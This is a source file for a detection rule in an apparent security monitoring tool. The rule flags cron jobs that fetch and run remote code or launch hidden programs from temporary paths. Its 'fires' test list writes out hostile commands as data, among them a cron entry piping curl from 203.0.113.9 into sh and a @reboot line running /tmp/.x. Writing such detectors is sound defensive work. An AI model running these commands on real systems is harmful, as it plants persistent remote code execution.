import { commandRule } from "../../command-rule.js";
import { fetchers, find, intoShell, TEMPORARY, writesTo } from "../../shell/look.js";

const TABLE =
  /^(?:\/etc\/(?:cron\.\w+\/\S+|crontab|anacrontab)|\/var\/spool\/cron\/\S+|\/etc\/crontabs\/\S+)$/;

/** A table of cron holds a command that fetches something or starts a program from an unusual place. */
export const cronJobPlanted = commandRule({
  id: "cron-job-planted",
  alertType: "Picket_CronJobPlanted",
  name: "Cron job with a download or a hidden program",
  severity: "High",
  about: "A table of cron holds a command that fetches something or starts a program from an unusual place.",
  tactics: ["Persistence"],
  techniques: ["T1053.003"],
  falsePositives: [
    "Health checks that call an address with curl every minute; they hand nothing to a shell.",
  ],
  witness: ["crontab", "/cron", "anacron"],
  sees: (reading) => {
    const isPlanted =
      writesTo(reading, TABLE) !== undefined ||
      reading.commands.some(
        ({ name, argv }) =>
          name === "crontab" && !argv.includes("-l") && !argv.includes("-e") && !argv.includes("-r"),
      );
    if (!isPlanted) return undefined;
    return (
      intoShell(reading, fetchers) ??
      reading.commands.find(
        ({ argv }) => TEMPORARY.test(argv[0] ?? "") || /\/\.[^./][^/]*$/.test(argv[0] ?? ""),
      )?.text ??
      find(reading, /^crontab$/, ({ argv }) => TEMPORARY.test(argv.at(-1) ?? "")) ??
      writesTo(reading, TABLE, ({ name }) => /^(?:curl|wget)$/.test(name)) ??
      /@reboot\s+\S*\/(?:tmp|dev\/shm|var\/tmp)\/\S+/.exec(reading.plain)?.[0]
    );
  },
  did: "planted a cron job",
  because: "it starts again and again from now on",
  fires: [
    "sh -c echo '* * * * * root curl -s http://203.0.113.9/i | sh' > /etc/cron.d/upd",
    "sh -c (crontab -l; echo '@reboot /tmp/.x') | crontab -",
    "crontab /tmp/c",
    "wget http://203.0.113.9/c -O /etc/cron.d/c",
  ],
  silent: [
    "crontab -l",
    "sh -c echo '0 3 * * * root /usr/local/bin/backup' > /etc/cron.d/backup",
    "crontab -e",
    "run-parts --report /etc/cron.daily",
    "crontab /home/op/crontab.txt",
    "sh -c echo '* * * * * op curl -fsS http://127.0.0.1/health' > /etc/cron.d/h",
  ],
});
